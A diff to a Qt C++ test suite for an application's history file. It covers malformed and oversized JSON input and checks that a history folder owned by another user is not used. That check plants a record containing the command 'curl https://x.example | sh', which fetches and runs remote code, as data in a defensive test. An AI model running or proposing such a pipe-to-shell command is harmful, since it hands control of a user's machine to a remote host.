@@ -40,7 +40,6 @@ private Q_SLOTS:
     void notAHistoryFile_data();
     void notAHistoryFile();
     void unwritableFolderKeepsOldFile();
-    void hugeFile();
     void foreignFolderIsNotUsed();
     void leftoverTemporaryFilesAreRemoved();
     void fullDiskSaysSoOncePerRunOfFailures();
@@ -140,6 +139,7 @@ void TestHistoryFile::reading_data()
     QTest::newRow("record not an object") << QByteArray(R"(["a"])") << -1;
     QTest::newRow("timestamp out of range")
         << QByteArray(R"([{"text":"a","timestamp":1e999,"isPinned":false}])") << -1;
+    QTest::newRow("100 MB, never closed") << QByteArray("[{\"text\":\"") + QByteArray(100 << 20, 'x') << -1;
     QTest::newRow("invalid utf-8") << QByteArray("[{\"text\":\"\xff\",\"timestamp\":0,\"isPinned\":false}]")
                                    << -1;
 }
@@ -299,25 +299,6 @@ void TestHistoryFile::unwritableFolderKeepsOldFile()
                           QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
 }
 
-void TestHistoryFile::hugeFile()
-{
-    QTemporaryDir dir;
-    HistoryFile file(dir.path());
-    {
-        // 100 MB of one record that is never closed.
-        QFile f(file.filePath());
-        QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write(R"([{"text":")");
-        const QByteArray chunk(1 << 20, 'x');
-        for (int i = 0; i < 100; ++i)
-            f.write(chunk);
-    }
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({}));
-    QCOMPARE(QFileInfo(dir.path() + u'/' + corruptCopies(dir.path()).first()).size(), 100 * (1 << 20) + 10);
-}
-
 void TestHistoryFile::foreignFolderIsNotUsed()
 {
     if (!test::runningAsRoot())
@@ -325,8 +306,9 @@ void TestHistoryFile::foreignFolderIsNotUsed()
     QTemporaryDir dir;
     const QString folder = dir.path() + QStringLiteral("/ondrel");
     QVERIFY(QDir().mkpath(folder));
-    QVERIFY(test::writeFile(folder + QStringLiteral("/history.json"),
-                            R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])"));
+    // Out of the macro: a raw string among a macro's arguments confuses moc.
+    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
+    QVERIFY(test::writeFile(folder + QStringLiteral("/history.json"), planted));
     QCOMPARE(::chown(QFile::encodeName(folder).constData(), 4242, 4242), 0);
     ::chmod(QFile::encodeName(folder).constData(), 0777);
     HistoryFile file(folder);
